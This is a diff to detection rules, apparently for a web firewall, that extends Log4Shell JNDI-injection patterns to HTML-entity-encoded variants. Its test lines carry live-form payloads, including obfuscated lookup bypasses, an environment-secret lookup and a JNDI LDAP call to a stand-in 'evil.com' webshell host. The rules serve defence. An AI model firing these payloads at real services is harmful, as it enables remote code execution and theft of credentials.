@@ -143,7 +143,11 @@ targets: @all
 literal: jndi
 literal: ${
 literal: %24%7b
-regex: \$\{[\s\S]{0,100}?jndi|\bjndi\s*:\s*(?:ldaps?|rmi|dns|iiop|corba|nds|nis|http)\b|\$\{(?:[^{}]|\$\{[^{}]*\}){0,300}?:(?:ldaps?|rmi|dns|iiop|corba|nds|nis):|%24%7b[\s\S]{0,60}jndi
+literal: &lbrace
+literal: &#123
+literal: &#x7b
+regex: \$\s*(?:\{|&lbrace;?|&#0*123;?|&#x0*7b;?|%7b)[\s\S]{0,100}?jndi|\bjndi\s*:\s*(?:ldaps?|rmi|dns|iiop|corba|nds|nis|http)\b|\$\{(?:[^{}]|\$\{[^{}]*\}){0,300}?:(?:ldaps?|rmi|dns|iiop|corba|nds|nis):|%24%7b[\s\S]{0,60}jndi
+test: $&lbracejndi:ldap://evil.com/webshell}
 test: ${jndi:ldap://x.example/a}
 test: ${${lower:j}${lower:n}di:ldap://x}
 pass: ${total} euros
@@ -155,7 +159,9 @@ accuracy: high
 risk: high
 targets: @all
 literal: ${
-regex: \$\{\s*(?:::-|[^}:]{0,20}:-|(?:lower|upper|env|sys|date|base64|main|java|ctx|bundle|k8s|docker|log4j|spring|web|jvmrunargs|marker|sd|map|event|hostname|script)\s*:)[^}]{0,100}\}
+literal: &lbrace
+regex: \$\s*&lbrace;?[a-z:]{2,}|\$\{\s*(?:::-|[^}:]{0,20}:-|(?:lower|upper|env|sys|date|base64|main|java|ctx|bundle|k8s|docker|log4j|spring|web|jvmrunargs|marker|sd|map|event|hostname|script)\s*:)[^}]{0,100}\}
+test: $&lbracesomethingnotcoveredbyotherrules
 test: ${env:AWS_SECRET_ACCESS_KEY}
 test: ${::-j}
 test: ${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/a}
